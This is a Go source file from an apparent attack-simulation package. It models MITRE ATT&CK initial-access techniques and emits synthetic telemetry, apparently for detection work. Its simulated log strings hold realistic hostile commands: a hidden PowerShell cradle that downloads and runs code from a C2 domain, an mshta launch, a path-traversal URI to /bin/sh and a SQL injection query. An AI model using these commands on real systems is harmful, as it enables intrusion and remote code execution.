package technique

import (
	"errors"
	"fmt"
	"slices"
	"time"

	"hemostat/sim"
	"hemostat/sim/role"
	"hemostat/sim/world"
)

var initialAccess = []*Technique{
	{
		ID: "T1110.001", Name: "Brute Force: Password Guessing", Tactic: "credential-access", Platforms: []string{"linux"},
		Needs: "an SSH server that can be reached", Effect: "a session on a host with a guessable password",
		Telemetry: []string{"linux/sshd", "zeek/conn"}, Achieves: "control", Tools: []string{"hydra", "medusa", "patient script", "distributed script"}, Takes: sim.LogNormal(20*time.Second, 0.5), Success: 1,
		ready: func(s *State) error {
			if !slices.ContainsFunc(s.Known, sshServer) {
				return errors.New("no SSH server found yet")
			}
			return nil
		},
		run: guessPasswords,
	},
	{
		ID: "T1078", Name: "Valid Accounts", Tactic: "initial-access", Platforms: []string{"windows"},
		Needs: "a password bought or phished before, and the remote desktop gateway", Effect: "a session at the owner's workstation",
		Telemetry: []string{"windows/security 4624", "zeek/conn", "zeek/ssl"}, Tools: []string{"scripted client", "system client"}, Takes: sim.LogNormal(2*time.Minute, 0.6), Success: 0.97,
		run: logOnThroughGateway,
	},
	{
		ID: "T1566.001", Name: "Phishing: Spearphishing Attachment", Tactic: "initial-access", Platforms: []string{"windows"},
		Needs: "mail reaches people", Effect: "an implant in the session of somebody who opened the attachment (T1204.002)",
		Telemetry: []string{"windows/sysmon 1 3 7 11 22", "windows/powershell", "zeek"}, Tools: []string{"one-note script", "macro", "lnk in zip", "signed installer"}, Takes: sim.LogNormal(40*time.Minute, 1), Success: 0.85,
		run: phish,
	},
	{
		ID: "T1566.002", Name: "Phishing: Spearphishing Link", Tactic: "initial-access", Platforms: []string{"windows"},
		Needs: "mail reaches people", Effect: "an implant in the session of somebody who followed the link",
		Telemetry: []string{"proxy", "windows/sysmon 1 3 11 15 22", "zeek"}, Tools: []string{"fake update", "disk image", "signed installer"}, Takes: sim.LogNormal(40*time.Minute, 1), Success: 0.8,
		run: func(a *Attempt) Progress { return lure(a, true) },
	},
	{
		ID: "T1189", Name: "Drive-by Compromise", Tactic: "initial-access", Platforms: []string{"windows"},
		Needs: "people read the web", Effect: "an implant in the session of somebody who read the wrong page",
		Telemetry: []string{"proxy", "windows/sysmon 1 3 11 22", "zeek"}, Tools: []string{"fake update", "browser exploit"}, Takes: sim.LogNormal(60*time.Minute, 1), Success: 0.7,
		run: func(a *Attempt) Progress { return lure(a, false) },
	},
	{
		ID: "T1195.002", Name: "Supply Chain Compromise: Compromise Software Supply Chain", Tactic: "initial-access", Platforms: []string{"windows"},
		Needs: "a vendor's product is installed", Effect: "an implant on a server, as SYSTEM, in a signed update",
		Telemetry: []string{"windows/sysmon 1 3 7 11 22", "zeek"}, Tools: []string{"noisy update", "patient update"}, Takes: sim.LogNormal(60*time.Minute, 0.8), Success: 0.97,
		run: poisonUpdate,
	},
	{
		ID: "T1190", Name: "Exploit Public-Facing Application", Tactic: "initial-access", Platforms: []string{"linux"},
		Needs: "a web server with a hole", Effect: "a shell of the web server's user on that host",
		Telemetry: []string{"linux/auditd", "webserver", "zeek/conn", "zeek/http"}, Achieves: "control", Tools: []string{"path traversal", "SQL injection", "one request"}, Takes: sim.LogNormal(10*time.Minute, 0.8), Success: 0.85,
		ready: needWeb, run: exploitWeb,
	},
	{
		ID: "T1133", Name: "External Remote Services", Tactic: "initial-access", Platforms: []string{"windows"},
		Needs: "a password, and the remote desktop gateway", Effect: "a session at the owner's workstation",
		Telemetry: []string{"windows/security 4624", "zeek/conn", "zeek/ssl"}, Tools: []string{"scripted client", "system client"}, Takes: sim.LogNormal(2*time.Minute, 0.6), Success: 0.95,
		run: logOnThroughGateway,
	},
	{
		ID: "T1078.002", Name: "Valid Accounts: Domain Accounts", Tactic: "initial-access", Platforms: []string{"windows"},
		Needs: "an account of one's own: this is an insider", Effect: "a session at a desk",
		Telemetry: []string{"windows/security 4624", "windows/sysmon 1"}, Tools: []string{"a colleague's desk", "the own desk"}, Takes: sim.LogNormal(2*time.Minute, 0.6), Success: 0.99,
		run: sitDown,
	},
}

func sshServer(h *world.Host) bool {
	return slices.ContainsFunc(h.Ports, func(p world.Port) bool { return p.Number == 22 })
}

func scanFromOutside(a *Attempt) Progress {
	w := a.World
	candidates := slices.Clone(w.Hosts)
	a.Rand.Shuffle(len(candidates), func(i, j int) { candidates[i], candidates[j] = candidates[j], candidates[i] })
	at, gap := a.Now, 40*time.Millisecond
	if a.Tool == "slow scan" {
		gap = 4 * time.Second
	}
	var refusal world.Refusal
	for _, h := range candidates {
		if r := w.Permitted(a.source(), world.At(h), 22); !r.OK() {
			continue
		}
		at += time.Duration(float64(gap) * a.Rand.Exp())
		open := sshServer(h)
		if r := w.Reach(a.source(), world.At(h), 22); !r.OK() {
			refusal = r
			continue
		}
		state := "REJ"
		if open {
			state = "RSTO"
			a.learn(h)
		}
		w.Flow(at, a.Actor, world.Flow{From: a.source(), To: world.At(h), Port: 22, Sent: 44, Received: 40, State: state})
	}
	if len(a.Known) == 0 {
		if !refusal.OK() {
			return blocked(refusal)
		}
		return failure("nothing answers on port 22")
	}
	return success("%d hosts answer on port 22", len(a.Known))
}

var guessable = []string{"root", "admin", "ubuntu", "oracle", "test", "deploy", "backup", "git", "postgres", "jenkins"}

// guessPasswords makes one guess a round. A weak host falls after a number of
// guesses that is drawn once per host; a strong one never does.
func guessPasswords(a *Attempt) Progress {
	w := a.World
	if a.Target == nil {
		a.Target = a.pick(&a.Rand, func(h *world.Host) bool {
			return sshServer(h) && !a.on(h) && w.Permitted(a.source(), world.At(h), 22).OK()
		})
		if a.Target == nil {
			return failure("no SSH server left to try")
		}
		budget := a.Rand.For("budget " + a.Target.Name)
		a.Count = int(budget.LogNormal(180, 0.9)) + 8
		a.Bytes = uint64(budget.LogNormal(45, 1)) + 3 // guess that hits, on a weak host
	}
	if a.Tool == "distributed script" {
		a.Address = a.Round % len(a.Addresses)
	}
	if r := w.Reach(a.source(), world.At(a.Target), 22); !r.OK() {
		return blocked(r)
	}
	if a.Target.Decoy {
		w.TouchDecoy(a.Now, a.Actor, a.source(), a.Target, "4002")
		a.Avoid[a.Target.Name] = true
		return Progress{Done: true, Refusal: w.HitDecoy(a.Target), Note: a.Target.Name + " was a decoy"}
	}
	name := sim.Pick(&a.Rand, guessable)
	hit := a.Target.Weak && uint64(a.Round) >= a.Bytes
	ok, r := w.SSH(a.Now, a.Actor, world.SSHAttempt{From: a.source(), To: a.Target, User: name, Unknown: !hit && name != "root", Good: hit})
	if ok {
		a.gain(&Foothold{Host: a.Target, Address: a.source().IP(), Port: 22, Since: a.Now, Elevated: name == "root"})
		return success("logged on to %s as %s after %d guesses", a.Target.Name, name, a.Round+1)
	}
	if a.Round >= a.Count {
		a.Avoid[a.Target.Name] = true
		return Progress{Done: true, Refusal: onlyDefence(r), Note: fmt.Sprintf("%d guesses at %s without success", a.Round+1, a.Target.Name)}
	}
	mean := map[string]time.Duration{"hydra": time.Second, "medusa": 4 * time.Second, "patient script": 40 * time.Second, "distributed script": 12 * time.Second}[a.Tool]
	wait := time.Duration(float64(mean) * a.Slowdown * (0.4 + 0.6*a.Rand.Exp()))
	if limit, action := w.RateLimit(a.source().IP()); limit > wait {
		if a.Rand.Bool(0.05 + 0.2*a.Skill) { // they notice that answers have become slow
			return blocked(world.Refusal{Reason: "rate_limited", Action: action})
		}
		wait = limit
	}
	return again(wait)
}

func onlyDefence(r world.Refusal) world.Refusal {
	if r.ByDefence() {
		return r
	}
	return world.Refusal{}
}

func logOnThroughGateway(a *Attempt) Progress {
	w := a.World
	gateways := w.WithRole(role.CloudGateway)
	if len(gateways) == 0 {
		return failure("there is no remote desktop gateway")
	}
	gateway := sim.Pick(&a.Rand, gateways)
	victim := sim.Pick(&a.Rand, w.Accounts)
	for i := 0; victim.Privilege != world.User || victim.MFA || victim.Home == nil; i++ {
		if i > 4*len(w.Accounts) {
			return failure("no account without a second factor is for sale")
		}
		victim = sim.Pick(&a.Rand, w.Accounts)
	}
	if r := w.Reach(a.source(), world.At(gateway), 443); !r.OK() {
		return blocked(r)
	}
	w.Flow(a.Now, a.Actor, world.Flow{From: a.source(), To: world.At(gateway), Port: 443, Service: "ssl", Sent: 60e3, Received: 3e6, Duration: 15 * time.Minute})
	client := a.Hello
	if a.Tool == "system client" {
		client = world.SchannelTLS
	}
	w.TLS(a.Now, a.Actor, a.source(), world.At(gateway), 443, "remote."+w.Domain, client, "CN=Public CA", "CN=remote."+w.Domain, true)
	if r := w.Reach(world.At(gateway), world.At(victim.Home), 3389); !r.OK() {
		return blocked(r)
	}
	a.steal(victim, false)
	_, r := w.LogOn(a.Now+20*time.Second, a.Actor, world.Logon{From: world.At(gateway), To: victim.Home, Account: victim, Type: world.LogonRemote, Generation: victim.Generation, BadSecret: a.failed, Keep: true})
	if !r.OK() {
		return Progress{Done: true, Refusal: onlyDefence(r), Note: "the password of " + victim.Name + " was refused"}
	}
	a.implant(victim.Home, victim, nil, 0, "Medium")
	return success("working at %s as %s", victim.Home.Name, victim.Name)
}

// implant leaves a program behind and begins to steer it.
func (a *Attempt) implant(h *world.Host, who *world.Account, via *Foothold, port int, integrity string) {
	folder := `C:\ProgramData\`
	if who != nil && integrity == "Medium" {
		folder = `C:\Users\` + who.Name + `\AppData\Local\Temp\`
	}
	name := sim.Pick(&a.Rand, []string{"OneDriveUpdater.exe", "svcupdate.exe", "tmp4a1.exe", "teamsync.exe", "dbghost.exe"})
	file, starter, library := world.Dropped(folder+name, &a.Rand), world.PowerShell, "version.dll"
	if a.Rand.Bool(a.quiet()) { // a signed program that loads a library of its own vendor's name
		file, starter, library = world.Signed(folder+name, "Viewer Software Ltd"), world.Svchost, "viewcore.dll"
	}
	shell := h.Program(starter, starter.Path, who)
	a.createFile(a.Now, shell, file.Path)
	i := a.World.Plant(a.Now+2*time.Second, a.Actor, world.Start{Host: h, Account: who, Binary: file, CommandLine: `"` + file.Path + `"`, Integrity: integrity, Parent: shell})
	a.World.LoadImage(a.Now+3*time.Second, a.Actor, i.Process, &world.Binary{Path: folder + library, OriginalName: "-", Company: "-", Product: "-", Description: "-", Version: "-"})
	i.Files = []string{file.Path}
	f := &Foothold{Host: h, Account: who, Implant: i, Via: via, Port: port, Since: a.Now, Elevated: i.Elevated}
	a.gain(f)
}

func phish(a *Attempt) Progress {
	w := a.World
	if a.failed {
		return failure("nobody opened the attachment")
	}
	var victim *world.Account
	for i := 0; victim == nil || victim.Home == nil || victim.Privilege != world.User || a.on(victim.Home); i++ {
		if i > 4*len(w.Accounts) {
			return failure("nobody left to write to")
		}
		victim = sim.Pick(&a.Rand, w.Accounts)
	}
	h := victim.Home
	downloads := `C:\Users\` + victim.Name + `\Downloads\`
	office := h.Program(world.Winword, `"`+world.Winword.Path+`" /n "`+downloads+`Invoice_2026.docm"`, victim)
	outlook := h.Program(world.Outlook, `"`+world.Outlook.Path+`"`, victim)
	var launcher *world.Process
	switch a.Tool {
	case "macro":
		a.createFile(a.Now, outlook, downloads+"Invoice_2026.docm")
		word := w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Winword, CommandLine: office.CommandLine, Parent: outlook})
		w.LoadImage(a.Now+6*time.Second, a.Actor, word, vbe)
		launcher = word
	case "lnk in zip":
		a.createFile(a.Now, outlook, downloads+"Invoice_2026.zip")
		explorer := h.Program(world.Explorer, `C:\Windows\Explorer.EXE`, victim)
		launcher = w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Cmd, CommandLine: `"C:\Windows\System32\cmd.exe" /c start /b powershell`, Parent: explorer})
	case "signed installer":
		a.createFile(a.Now, outlook, downloads+"ViewerSetup.exe")
		setup := world.Signed(downloads+"ViewerSetup.exe", "Viewer Software Ltd")
		return a.phished(w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: setup}), victim)
	default:
		a.createFile(a.Now, outlook, `C:\Users\`+victim.Name+`\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8K2LQ0\Invoice.hta`)
		launcher = w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Mshta, CommandLine: `"C:\Windows\System32\mshta.exe" "C:\Users\` + victim.Name + `\AppData\Local\Temp\OneNote\Invoice.hta"`, Parent: outlook})
	}
	script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/u')", a.C2().Domain)
	shell := w.StartProcess(a.Now+8*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.PowerShell, CommandLine: `powershell.exe -nop -w hidden -enc ` + encoded(script), Parent: launcher})
	w.RunScript(a.Now+9*time.Second, a.Actor, shell, script)
	return a.phished(shell, victim)
}

// phished lets what the victim started call home and leave an implant.
func (a *Attempt) phished(p *world.Process, victim *world.Account) Progress {
	w, h, c2 := a.World, p.Host, a.C2()
	w.Resolve(a.Now+9*time.Second, a.Actor, h, p, c2.Domain, "A", c2.Address)
	a.Hostile.MarkHost(h.Name)
	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
		return blocked(r)
	}
	w.Flow(a.Now+10*time.Second, a.Actor, world.Flow{From: world.At(h), To: c2, Port: 443, Service: "ssl", Process: p, Sent: 2e3, Received: 400e3, Duration: 3 * time.Second})
	w.TLS(a.Now+10*time.Second, a.Actor, world.At(h), c2, 443, c2.Domain, a.Hello, a.Issuer(c2), "CN="+c2.Domain, a.PublicCertificate)
	a.Now += 15 * time.Second
	a.implant(h, victim, nil, 0, "Medium")
	return success("%s opened the attachment at %s", victim.Name, h.Name)
}

var vbe = &world.Binary{Path: `C:\Program Files\Microsoft Office\root\VFS\ProgramFilesCommonX64\Microsoft Shared\VBA\VBA7.1\VBE7.DLL`, OriginalName: "VBE7.DLL", Company: "Microsoft Corporation", Product: "Microsoft Office", Description: "Visual Basic Design Time Environment Library", Version: "7.01.1108", Signed: true}

// lure lets somebody fetch and start a file from the web.
func lure(a *Attempt, mailed bool) Progress {
	w := a.World
	if a.failed {
		return failure("nobody took the bait")
	}
	victim := a.person()
	if victim == nil {
		return failure("nobody left to lure")
	}
	h, c2 := victim.Home, a.C2()
	browser := h.Program(world.Chrome, `"`+world.Chrome.Path+`"`, victim)
	w.Resolve(a.Now, a.Actor, h, browser, c2.Domain, "A", c2.Address)
	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
		return blocked(r)
	}
	name := "Update_browser.js"
	switch {
	case mailed && a.Tool == "disk image":
		name = "Scan_2026.iso"
	case a.Tool == "signed installer":
		name = "ViewerSetup.exe"
	}
	w.ProxyRequest(a.Now+time.Second, a.Actor, world.Request{From: world.At(h), To: c2, Port: 80, Method: "GET", Host: c2.Domain, URI: "http://" + c2.Domain + "/d/" + name, Agent: browserAgent, Status: "200", Sent: 900, Received: 900e3, User: victim.Name})
	downloads := `C:\Users\` + victim.Name + `\Downloads\`
	a.createFile(a.Now+2*time.Second, browser, downloads+name)
	w.Log(a.Now+2*time.Second, a.Actor, browser, "Sysmon 15", "TargetFilename", downloads+name+":Zone.Identifier", "Contents", "[ZoneTransfer]  ZoneId=3  HostUrl=https://"+c2.Domain+"/d/"+name, "Hash", "-")
	explorer := h.Program(world.Explorer, `C:\Windows\Explorer.EXE`, victim)
	var p *world.Process
	switch {
	case name == "Scan_2026.iso":
		p = w.StartProcess(a.Now+20*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Rundll32, CommandLine: `"C:\Windows\System32\rundll32.exe" E:\documents.dll,Start`, Directory: `E:\`, Parent: explorer})
	case a.Tool == "signed installer":
		p = w.StartProcess(a.Now+20*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Signed(downloads+name, "Viewer Software Ltd"), Parent: explorer})
	case a.Tool == "browser exploit":
		p = w.StartProcess(a.Now+20*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Rundll32, CommandLine: `rundll32.exe`, Parent: browser})
	default:
		js := w.StartProcess(a.Now+20*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Wscript, CommandLine: `"C:\Windows\System32\WScript.exe" "` + downloads + name + `"`, Parent: explorer})
		p = w.StartProcess(a.Now+22*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.PowerShell, CommandLine: `powershell.exe -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://` + c2.Domain + `/u')"`, Parent: js})
	}
	return a.phished(p, victim)
}

// person is somebody at a workstation where the attacker is not yet, or nil.
func (a *Attempt) person() *world.Account {
	for range 4 * len(a.World.Accounts) {
		who := sim.Pick(&a.Rand, a.World.Accounts)
		if who.Privilege == world.User && who.Home != nil && !a.on(who.Home) {
			return who
		}
	}
	return nil
}

// poisonUpdate is a signed update of a vendor's product that brings an implant along.
func poisonUpdate(a *Attempt) Progress {
	w := a.World
	servers := w.WithRole(role.AppServer)
	var windows []*world.Host
	for _, h := range servers {
		if h.Windows() && !a.on(h) {
			windows = append(windows, h)
		}
	}
	if len(windows) == 0 || a.failed {
		return failure("the product is not installed")
	}
	h, c2 := sim.Pick(&a.Rand, windows), a.C2()
	a.Target = h
	a.Hostile.MarkHost(h.Name)
	p := w.StartProcess(a.Now, a.Actor, world.Start{Host: h, Binary: world.Updater, CommandLine: `"` + world.Updater.Path + `" /silent`, Integrity: "System"})
	a.createFile(a.Now+2*time.Second, p, `C:\Program Files\Network Viewer\nv.core.dll`)
	w.LoadImage(a.Now+3*time.Second, a.Actor, p, world.Signed(`C:\Program Files\Network Viewer\nv.core.dll`, "Network Viewer Ltd"))
	if a.Tool == "noisy update" {
		w.StartProcess(a.Now+9*time.Second, a.Actor, world.Start{Host: h, Binary: world.Cmd, CommandLine: `cmd.exe /c whoami & nltest /domain_trusts`, Parent: p, Integrity: "System"})
	}
	w.Resolve(a.Now+20*time.Second, a.Actor, h, p, c2.Domain, "A", c2.Address)
	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
		return blocked(r)
	}
	w.Flow(a.Now+20*time.Second, a.Actor, world.Flow{From: world.At(h), To: c2, Port: 443, Service: "ssl", Process: p, Sent: 2e3, Received: 300e3, Duration: 2 * time.Second})
	i := w.Plant(a.Now+25*time.Second, a.Actor, world.Start{Host: h, Binary: world.Updater, CommandLine: `"` + world.Updater.Path + `" /service`, Parent: p, Integrity: "System"})
	i.Files = []string{`C:\Program Files\Network Viewer\nv.core.dll`}
	a.gain(&Foothold{Host: h, Implant: i, Since: a.Now, Elevated: true})
	return success("the update runs on %s", h.Name)
}

// exploitWeb gets a shell on a web server that has a hole.
func exploitWeb(a *Attempt) Progress {
	w := a.World
	if a.Round == 0 {
		a.Target = a.pick(&a.Rand, func(h *world.Host) bool { return h.Role == role.WebServer && !a.on(h) })
		if a.Target == nil {
			a.Target = sim.Pick(&a.Rand, w.WithRole(role.WebServer))
		}
		a.Count = 12
		if a.Tool == "one request" {
			a.Count = 0
		}
	}
	h := a.Target
	if r := w.Reach(a.source(), world.At(h), 80); !r.OK() {
		return blocked(r)
	}
	uri, query, method := "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "", "POST"
	switch a.Tool {
	case "SQL injection":
		uri, query, method = "/product.php", "id=-1%20UNION%20SELECT%201,group_concat(table_name)%20from%20information_schema.tables--+-", "GET"
	case "one request":
		uri, query = "/api/v2/import", ""
	}
	status := "403"
	if a.Round >= a.Count {
		status = "200"
	}
	w.HTTP(a.Now, a.Actor, world.Request{From: a.source(), To: world.At(h), Port: 80, Method: method, Host: "www." + w.Domain, URI: uri, Query: query, Agent: "curl/7.88.1", Status: status, Sent: 300, Received: 900})
	w.Flow(a.Now, a.Actor, world.Flow{From: a.source(), To: world.At(h), Port: 80, Service: "http", Sent: 900, Received: 1800, Duration: time.Second})
	if a.Round < a.Count {
		return again(time.Duration(float64(3*time.Second) * (0.4 + a.Rand.Exp()) * a.Slowdown))
	}
	if r := w.Patched(h); !r.OK() {
		return blocked(r)
	}
	if a.failed || len(h.Vulnerabilities) == 0 {
		return failure("%s has no hole that fits", h.Name)
	}
	parent := h.System(world.Apache, "/usr/sbin/apache2 -k start")
	w.StartProcess(a.Now+time.Second, a.Actor, world.Start{Host: h, Binary: world.Bash, CommandLine: "sh -c id", Parent: parent})
	c2 := a.C2()
	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
		return blocked(r)
	}
	w.Flow(a.Now+4*time.Second, a.Actor, world.Flow{From: world.At(h), To: c2, Port: 443, Service: "ssl", Sent: 3e3, Received: 200e3, Duration: 2 * time.Second})
	i := w.Plant(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Binary: world.UnixProgram("/tmp/.httpd"), CommandLine: "/tmp/.httpd", Parent: parent})
	i.Files = []string{"/tmp/.httpd"}
	a.gain(&Foothold{Host: h, Implant: i, Since: a.Now})
	return success("a shell on %s", h.Name)
}
